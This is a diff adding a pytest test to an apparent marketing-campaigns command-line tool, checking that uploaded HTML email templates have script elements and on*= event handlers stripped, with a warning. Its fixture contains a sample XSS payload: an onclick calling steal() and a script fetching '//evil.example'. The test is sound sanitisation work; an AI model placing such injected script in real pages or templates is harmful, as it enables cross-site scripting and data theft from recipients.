@@ -187,3 +187,19 @@ def test_import_reports_out_of_range_values_and_utf16(store: str, tmp_path: Path
     utf16.write_text("date,campaign_id,channel,spend,impressions,clicks\n2026-01-01,c1,email,1,1,1\n", encoding="utf-16")
     assert "the file is UTF-16 encoded" in _run("import", "spend", str(utf16), "--merchant", "acme", code=2)
     assert not get_settings().landing_dir.exists() or not any(get_settings().landing_dir.rglob("*.parquet"))
+
+
+# --- 20: email templates lose scripts and handlers, with a warning ------------------------------------------------------
+def test_templates_add_strips_scripts_and_handlers_with_a_warning(store: str, tmp_path: Path) -> None:
+    from campaigns.core.store.models import EmailTemplate
+
+    page = tmp_path / "t.html"
+    page.write_text('<p onclick="steal()">Hi {{ first_name }}</p><script>fetch("//evil.example")</script>')
+    result = runner.invoke(app, ["email", "templates", "add", "Promo", "--file", str(page), "--merchant", "acme"])
+    assert result.exit_code == 0, result.output
+    out = _flat(result.output)
+    assert "warning:" in out and "removed 1 <script> element(s)" in out and "removed 1 on*= event handler" in out
+    with session_scope(store) as s:
+        html = s.query(EmailTemplate).filter_by(merchant_id="acme", name="Promo").one().html
+    assert "<script" not in html and "onclick" not in html and "Hi {{ first_name }}" in html
+    assert "they are stripped" in _run("email", "templates", "check", "--file", str(page))
